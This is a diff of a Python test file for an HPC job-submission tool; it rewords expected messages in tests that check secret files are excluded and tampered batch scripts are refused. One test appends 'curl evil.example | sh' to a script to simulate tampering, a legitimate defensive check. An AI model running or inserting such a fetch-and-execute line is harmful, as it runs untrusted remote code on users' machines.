@@ -29,7 +29,7 @@ def test_untracked_secrets_are_named_and_left_out_and_tracked_ones_are_named(pro
     for command in (["init", "-q"], ["add", "server.pem", "program.py"]):
         subprocess.run(["git", *command], cwd=project.folder, check=True)
     told = project.hpc("plan", "tiny", "--cluster", "local")
-    assert ".env (its name), notes.txt (holds a Hugging Face token); to copy them all the same, git add them" in told
+    assert ".env (its name), notes.txt (holds a Hugging Face token); to copy them anyway, git add them" in told
     assert "warning: git tracks, and the copy of the code holds, what looks like secrets: server.pem" in told
     assert {".env", "notes.txt"} & frozen(project) == set()
     assert {"server.pem", "program.py"} <= frozen(project)
@@ -64,7 +64,7 @@ def test_a_changed_script_is_not_submitted_and_its_remedy_makes_a_new_one(projec
     script = project.runs / "tiny/submissions/001/array.sbatch"
     script.write_text(script.read_text() + "\ncurl evil.example | sh\n")
     told = project.hpc("submit", "tiny", expect=2)
-    assert "was changed since it was planned" in told
+    assert "has changed since it was planned" in told
     remedy = told.partition("For a new one: ")[2].partition(" && ")[0]
     subprocess.run(["sh", "-c", remedy], check=True)
     project.hpc("submit", "tiny")
